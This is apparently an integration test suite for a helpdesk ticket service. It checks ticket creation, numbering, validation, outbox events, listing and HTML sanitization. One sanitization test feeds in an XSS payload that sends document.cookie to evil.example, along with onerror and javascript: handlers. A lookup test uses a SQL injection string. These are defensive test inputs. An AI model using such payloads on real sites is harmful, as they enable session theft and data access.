// The ticket service in-process (real gRPC server on port 0) against real PostgreSQL and NATS JetStream,
// in a database and a BUS_PREFIX of its own: create, read, list, and the outbox behind them.
import { randomUUID } from 'node:crypto';
import { commonV1, directoryV1, ticketEventsV1, ticketV1 } from '@helpdesk/contracts';
import { domainFailure as failure, waitFor } from '@helpdesk/testing';
import type { UnitOfWork } from '../src/app/ports';
import { PrismaUnitOfWork } from '../src/infra/unit-of-work';
import { createRequest, get, list, startTicketHarness, type TicketHarness } from './support/ticket-harness';
import { withDeps } from './support/use-cases';

describe('ticket service (gRPC, PostgreSQL, NATS)', () => {
  let h: TicketHarness;
  let client: TicketHarness['tickets'];

  beforeAll(async () => {
    h = await startTicketHarness();
    client = h.tickets;
  });

  afterAll(async () => {
    await h?.stop();
  });

  const outboxCount = async (): Promise<number> => {
    // ticket events only: a first ticket of a requester also records its new contact (its own transaction)
    const rows = await h.service.prisma.$queryRaw<Array<{ n: number }>>`
      SELECT count(*)::int AS n FROM outbox WHERE type = 'helpdesk.ticket.created'`;
    return rows[0]!.n;
  };

  describe('CreateTicket', () => {
    it('numbers tickets per tenant from 1001 and answers the whole ticket', async () => {
      const tenantA = randomUUID();
      const tenantB = randomUUID();
      const first = (await client.createTicket(createRequest(tenantA))).ticket!;
      const second = (
        await client.createTicket(createRequest(tenantA, { priority: 'high', source: 'phone' }))
      ).ticket!;
      const otherTenant = (await client.createTicket(createRequest(tenantB))).ticket!;

      expect([first.number, second.number, otherTenant.number]).toEqual([1001, 1002, 1001]);
      expect(first).toMatchObject({
        tenantId: tenantA,
        title: 'Outlook keeps asking for the password',
        descriptionHtml: '<p>Since this morning.</p>',
        descriptionText: 'Since this morning.',
        status: 'open',
        priority: 'medium',
        source: 'agent',
        raisedBy: 'dana@client.example',
        requester: { email: 'dana@client.example', name: 'Dana Client' },
        createdBy: { type: commonV1.ActorType.ACTOR_TYPE_USER, id: '5a4b3c2d-1e0f-4a1b-8c2d-3e4f5a6b7c8d' },
        version: 1,
      });
      expect(first.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(Math.abs(first.openedAt!.getTime() - Date.now())).toBeLessThan(10_000);
      expect(second).toMatchObject({ priority: 'high', source: 'phone' });

      // what was answered is what was stored
      expect((await client.getTicket(get(tenantA, first.id))).ticket).toEqual(first);
    });

    it('derives the source from the actor', async () => {
      const tenant = randomUUID();
      const by = async (actor: commonV1.Actor) =>
        (await client.createTicket(createRequest(tenant, { actor }))).ticket!.source;
      expect(await by({ type: commonV1.ActorType.ACTOR_TYPE_API_KEY, id: 'key-1' })).toBe('api');
      const { contact } = await h.directory.createContact(
        directoryV1.CreateContactRequest.fromPartial({
          tenantId: tenant,
          actor: { type: commonV1.ActorType.ACTOR_TYPE_USER, id: 'u' },
          name: 'C',
          email: 'c@client.example',
          portalAccess: 'own',
        }),
      );
      expect(await by({ type: commonV1.ActorType.ACTOR_TYPE_CONTACT, id: contact!.id })).toBe('portal');
      // a contact without portal access (or unknown) opens nothing
      expect(
        (
          await failure(
            client.createTicket(
              createRequest(tenant, {
                actor: { type: commonV1.ActorType.ACTOR_TYPE_CONTACT, id: 'contact-1' },
              }),
            ),
          )
        ).code,
      ).toBe('PERMISSION_DENIED');
      expect(await by({ type: commonV1.ActorType.ACTOR_TYPE_SYSTEM, id: '' })).toBe('api');
    });

    it('gives 20 concurrent creates of one tenant 20 distinct numbers', async () => {
      const tenant = randomUUID();
      const tickets = await Promise.all(
        Array.from({ length: 20 }, (_, i) =>
          client.createTicket(createRequest(tenant, { title: `Concurrent ${i}` })),
        ),
      );
      const numbers = tickets.map((r) => r.ticket!.number).sort((a, b) => a - b);
      expect(numbers).toEqual(Array.from({ length: 20 }, (_, i) => 1001 + i));
    });

    it('stores sanitized HTML and a plain-text copy', async () => {
      const tenant = randomUUID();
      const { ticket } = await client.createTicket(
        createRequest(tenant, {
          description:
            '<p onclick="x()">Screen <b>flickers</b><script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
            '<img src="https://evil.example/p.png" onerror="alert(1)"><a href="javascript:alert(1)">click</a>' +
            '<img src="cid:screenshot@mail" alt="shot">',
        }),
      );
      const stored = (await client.getTicket(get(tenant, ticket!.id))).ticket!;
      expect(stored.descriptionHtml).toBe(
        '<p>Screen <b>flickers</b></p><img src="https://evil.example/p.png" /><a rel="noopener noreferrer">click</a>' +
          '<img src="cid:screenshot@mail" alt="shot" />',
      );
      expect(stored.descriptionHtml).not.toMatch(/script|onerror|onclick|javascript/i);
      expect(stored.descriptionText).toBe('Screen flickers\n\nclick');
    });

    it('rejects invalid requests with INVALID_ARGUMENT and the zod issues as details', async () => {
      const tenant = randomUUID();
      const cases: Array<[string, ticketV1.CreateTicketRequest, string]> = [
        ['blank title', createRequest(tenant, { title: '   ' }), 'title'],
        ['title of 301 characters', createRequest(tenant, { title: 'x'.repeat(301) }), 'title'],
        ['missing actor', createRequest(tenant, { actor: undefined }), 'actor'],
        [
          'unspecified actor',
          createRequest(tenant, { actor: { type: commonV1.ActorType.ACTOR_TYPE_UNSPECIFIED, id: 'u' } }),
          'actor.type',
        ],
        [
          'user actor without id',
          createRequest(tenant, { actor: { type: commonV1.ActorType.ACTOR_TYPE_USER, id: '' } }),
          'actor.id',
        ],
        [
          'invalid requester e-mail',
          createRequest(tenant, { requester: { email: 'not-an-email', name: 'x' } }),
          'requester.email',
        ],
        ['unknown type', createRequest(tenant, { type: 'Outage' }), 'type'],
        ['tag with a space', createRequest(tenant, { tags: { tags: ['two words'] } }), 'tags'],
        ['cc that is no address', createRequest(tenant, { cc: ['nope'] }), 'cc'],
        ['unknown priority', createRequest(tenant, { priority: 'urgent' }), 'priority'],
        ['unknown source', createRequest(tenant, { source: 'fax' }), 'source'],
        ['tenant id that is no uuid', createRequest('tenant-1'), 'tenantId'],
        [
          'description over 100 000 characters',
          createRequest(tenant, { description: 'x'.repeat(100_001) }),
          'description',
        ],
      ];
      for (const [why, request, path] of cases) {
        const err = await failure(client.createTicket(request));
        expect({ why, code: err.code }).toEqual({ why, code: 'INVALID_ARGUMENT' });
        // zod issues (shape) or the domain's field list (values)
        const details = err.details as { issues?: Array<{ path: string }> } | Array<{ path: string[] }>;
        const paths = Array.isArray(details)
          ? details.map((d) => d.path.join('.'))
          : details.issues!.map((i) => i.path);
        expect({ why, paths }).toEqual({
          why,
          paths: expect.arrayContaining([path]),
        });
      }
      // nothing was created, and no number was burnt
      expect((await client.listTickets(list(tenant))).items).toEqual([]);
      expect((await client.createTicket(createRequest(tenant))).ticket!.number).toBe(1001);
    });

    it('publishes helpdesk.ticket.created on the prefixed subject with the SPEC §10 envelope', async () => {
      const tenant = randomUUID();
      const { ticket } = await client.createTicket(createRequest(tenant, { title: 'Event please' }));
      const envelope = await h.event(
        'helpdesk.ticket.created',
        (e) => (e.data as { ticket?: { id?: string } }).ticket?.id === ticket!.id,
      );
      expect(envelope).toMatchObject({ type: 'helpdesk.ticket.created', version: 1, tenantId: tenant });
      const data = ticketEventsV1.TicketCreatedEvent.fromJSON(envelope.data);
      expect(data.ticket).toEqual(ticket);
      expect(data.actor).toEqual(createRequest(tenant).actor);

      // stored in the ticket stream (not just seen on the wire) with Nats-Msg-Id = event id, and marked published
      const stored = await h.bus.jsm.streams.getMessage(h.bus.streamName('ticket'), {
        last_by_subj: `${h.prefix}.helpdesk.ticket.created`,
      });
      expect(stored.header.get('Nats-Msg-Id')).toBeTruthy();
      await waitFor('the outbox row to be marked published', async () => {
        const rows = await h.service.prisma.$queryRaw<Array<{ published: boolean }>>`
          SELECT published_at IS NOT NULL AS published FROM outbox WHERE id = ${envelope.id}::uuid`;
        return rows[0]?.published ? true : undefined;
      });
    });
  });

  describe('the ticket and its event commit together', () => {
    const build = (uow: UnitOfWork, ids: () => string) =>
      withDeps(h.service.useCases.createTicket, { uow, ids: { newId: ids } });
    const command = (tenantId: string, title: string) => ({
      tenantId,
      actor: { type: 'user' as const, id: '5a4b3c2d-1e0f-4a1b-8c2d-3e4f5a6b7c8d' },
      title,
      description: '',
      requester: { email: 'x@client.example', name: 'X' },
    });

    it('writes no event when the transaction fails after the event was written', async () => {
      const tenant = randomUUID();
      const real = new PrismaUnitOfWork(h.service.prisma);
      let enqueued = 0;
      // the real unit of work, failing after the use case's work (ticket insert + outbox row) is done
      const failingAfterWork: UnitOfWork = {
        run: (work) =>
          real.run(async (ctx) => {
            await work({
              ...ctx,
              outbox: {
                enqueue: async (event) => {
                  await ctx.outbox.enqueue(event);
                  enqueued += 1;
                },
              },
            });
            throw new Error('failure before commit');
          }),
      };
      const before = await outboxCount();
      await expect(build(failingAfterWork, randomUUID).execute(command(tenant, 'Doomed'))).rejects.toThrow(
        'failure before commit',
      );
      expect(enqueued).toBe(1);
      expect(await outboxCount()).toBe(before);
      expect((await client.listTickets(list(tenant))).items).toEqual([]);

      // the number taken before the failed transaction is gone for good: the next create gets 1002
      const next = await build(real, randomUUID).execute(command(tenant, 'Survivor'));
      expect(next.ticket.number).toBe(1002);
      expect(await outboxCount()).toBe(before + 1);
    });

    it('writes no event when the ticket insert fails (duplicate id)', async () => {
      const tenant = randomUUID();
      const existing = (await client.createTicket(createRequest(tenant))).ticket!;
      await waitFor('the first event to be enqueued', async () =>
        (await outboxCount()) > 0 ? true : undefined,
      );
      const before = await outboxCount();
      await expect(
        build(new PrismaUnitOfWork(h.service.prisma), () => existing.id).execute(command(tenant, 'Same id')),
      ).rejects.toThrow();
      expect(await outboxCount()).toBe(before);
      const items = (await client.listTickets(list(tenant))).items;
      expect(items.map((t) => t.title)).toEqual([existing.title]);
    });
  });

  describe('GetTicket', () => {
    it("answers NOT_FOUND for another tenant's ticket, an unknown id and an id that is no uuid", async () => {
      const owner = randomUUID();
      const { ticket } = await client.createTicket(createRequest(owner));
      expect((await client.getTicket(get(owner, ticket!.id.toUpperCase()))).ticket!.id).toBe(ticket!.id);
      expect((await failure(client.getTicket(get(randomUUID(), ticket!.id)))).code).toBe('NOT_FOUND');
      expect((await failure(client.getTicket(get(owner, randomUUID())))).code).toBe('NOT_FOUND');
      expect((await failure(client.getTicket(get(owner, 'not-a-uuid')))).code).toBe('NOT_FOUND');
      expect((await failure(client.getTicket(get(owner, "1' OR '1'='1")))).code).toBe('NOT_FOUND');
      expect((await failure(client.getTicket(get('nope', ticket!.id)))).code).toBe('INVALID_ARGUMENT');
      // and by number, within the tenant only
      expect(
        (
          await client.getTicket(
            ticketV1.GetTicketRequest.fromPartial({ tenantId: owner, number: ticket!.number }),
          )
        ).ticket!.id,
      ).toBe(ticket!.id);
      expect(
        (
          await failure(
            client.getTicket(
              ticketV1.GetTicketRequest.fromPartial({ tenantId: randomUUID(), number: ticket!.number }),
            ),
          )
        ).code,
      ).toBe('NOT_FOUND');
    });
  });

  describe('ListTickets', () => {
    const walk = async (
      tenantId: string,
      limit: number,
      filters: { status?: string[]; priority?: string[] } = {},
    ) => {
      const items: ticketV1.Ticket[] = [];
      let cursor = '';
      let pages = 0;
      do {
        const page = await client.listTickets(
          list(tenantId, {
            page: { limit, cursor },
            status: filters.status ?? [],
            priority: filters.priority ?? [],
          }),
        );
        expect(page.items.length).toBeLessThanOrEqual(limit);
        items.push(...page.items);
        cursor = page.nextCursor;
        pages += 1;
      } while (cursor && pages < 100);
      return { items, pages };
    };
    const newestFirst = (a: ticketV1.Ticket, b: ticketV1.Ticket) =>
      b.openedAt!.getTime() - a.openedAt!.getTime() || (a.id < b.id ? 1 : a.id > b.id ? -1 : 0);

    it('walks every ticket of the tenant newest first by cursor, without duplicates, and filters', async () => {
      const tenant = randomUUID();
      const priorities = ['low', 'medium', 'high', 'critical'];
      // concurrent creates: several share an openedAt millisecond, so the id tie-breaker is exercised too
      const created = await Promise.all(
        Array.from({ length: 23 }, (_, i) =>
          client
            .createTicket(createRequest(tenant, { title: `List ${i}`, priority: priorities[i % 4]! }))
            .then((r) => r.ticket!),
        ),
      );
      await client.createTicket(createRequest(randomUUID(), { title: 'Other tenant' }));

      const { items, pages } = await walk(tenant, 5);
      expect(pages).toBe(5);
      expect(new Set(items.map((t) => t.id)).size).toBe(23);
      expect(items.map((t) => t.id)).toEqual([...created].sort(newestFirst).map((t) => t.id));

      const urgent = await walk(tenant, 4, { priority: ['high', 'critical'] });
      expect(urgent.items.map((t) => t.id).sort()).toEqual(
        created
          .filter((t) => t.priority === 'high' || t.priority === 'critical')
          .map((t) => t.id)
          .sort(),
      );
      expect((await walk(tenant, 50, { status: ['open'] })).items).toHaveLength(23);
      expect((await walk(tenant, 50, { status: ['closed', 'resolved'] })).items).toEqual([]);
      expect((await walk(tenant, 50, { status: ['open'], priority: ['low'] })).items).toHaveLength(6);
    });

    it('orders tickets opened in the same millisecond by id and still walks them all', async () => {
      const tenant = randomUUID();
      const sameInstant = new Date('2026-02-02T12:00:00.000Z');
      const create = withDeps(h.service.useCases.createTicket, { clock: { now: () => sameInstant } });
      const ids: string[] = [];
      for (let i = 0; i < 9; i += 1) {
        const t = await create.execute({
          tenantId: tenant,
          actor: { type: 'user', id: 'u' },
          title: `Tie ${i}`,
          description: '',
          requester: { email: 'tie@client.example', name: '' },
        });
        ids.push(t.ticket.id);
      }
      const { items } = await walk(tenant, 2);
      expect(items.map((t) => t.id)).toEqual([...ids].sort().reverse());
    });

    it('defaults to 50 items and answers an empty next cursor on the last page', async () => {
      const tenant = randomUUID();
      await Promise.all(Array.from({ length: 3 }, () => client.createTicket(createRequest(tenant))));
      const page = await client.listTickets(list(tenant));
      expect(page.items).toHaveLength(3);
      expect(page.nextCursor).toBe('');
    });

    it('rejects bad limits, cursors and filters with INVALID_ARGUMENT', async () => {
      const tenant = randomUUID();
      const refused = (over: Partial<ticketV1.ListTicketsRequest>) =>
        failure(client.listTickets(list(tenant, over)));
      expect((await refused({ page: { limit: 201, cursor: '' } })).code).toBe('INVALID_ARGUMENT');
      expect((await refused({ page: { limit: -1, cursor: '' } })).code).toBe('INVALID_ARGUMENT');
      expect((await refused({ page: { limit: 10, cursor: 'not*a*cursor' } })).code).toBe('INVALID_ARGUMENT');
      expect(
        (await refused({ page: { limit: 10, cursor: Buffer.from('{"o":1}').toString('base64url') } })).code,
      ).toBe('INVALID_ARGUMENT');
      expect((await refused({ status: ['pending'] })).code).toBe('INVALID_ARGUMENT');
      expect((await refused({ priority: ['urgent'] })).code).toBe('INVALID_ARGUMENT');
      expect((await refused({ tenantId: '' })).code).toBe('INVALID_ARGUMENT');
      expect((await refused({ sort: 'relevance' })).code).toBe('INVALID_ARGUMENT');
      expect((await refused({ sort: 'colour' })).code).toBe('INVALID_ARGUMENT');
    });
  });

  it('answers readiness with db and nats checks', async () => {
    const res = await fetch(`http://127.0.0.1:${h.service.healthPort}/readyz`);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ status: 'ok', checks: { db: 'ok', nats: 'ok' } });
  });
});
